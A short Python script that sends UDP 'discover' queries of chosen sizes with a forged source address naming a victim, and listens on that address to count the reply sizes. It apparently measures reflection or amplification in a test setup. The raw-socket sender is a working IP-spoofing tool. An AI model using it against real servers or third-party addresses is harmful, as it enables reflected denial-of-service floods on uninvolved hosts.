"""Asks for servers in another machine's name, and counts there what comes.

    spoof.py send VICTIM SERVER UDP_PORT FIRST_PORT BYTES...   one question per size
    spoof.py listen ADDRESS FIRST_PORT COUNT                   "PORT BYTES" for what comes

The question of BYTES number n claims to come from port FIRST_PORT + n of VICTIM. The listener ends
when something came to its last port.
"""

import json
import select
import socket
import struct
import sys


def question(size):
    bare = json.dumps({"type": "discover", "protocol": 1, "pad": ""}, separators=(",", ":"))
    return (bare[:-2] + " " * (size - len(bare)) + bare[-2:]).encode()


def send(victim, server, port, first, *sizes):
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number, size in enumerate(sizes):
        text = question(int(size))
        # No checksum is allowed over IPv4, and the kernel fills in that of the IP header.
        datagram = struct.pack("!HHHH", int(first) + number, int(port), 8 + len(text), 0) + text
        header = struct.pack(
            "!BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 0, 0, 64, socket.IPPROTO_UDP, 0,
            socket.inet_aton(victim), socket.inet_aton(server))
        raw.sendto(header + datagram, (server, 0))


def listen(address, first, count):
    sockets = []
    for number in range(int(count)):
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.bind((address, int(first) + number))
        sockets.append(one)
    print("listening", flush=True)
    while True:
        for one in select.select(sockets, [], [])[0]:
            size = len(one.recv(65536))
            print(one.getsockname()[1], size, flush=True)
            if one is sockets[-1]:
                return


{"send": send, "listen": listen}[sys.argv[1]](*sys.argv[2:])
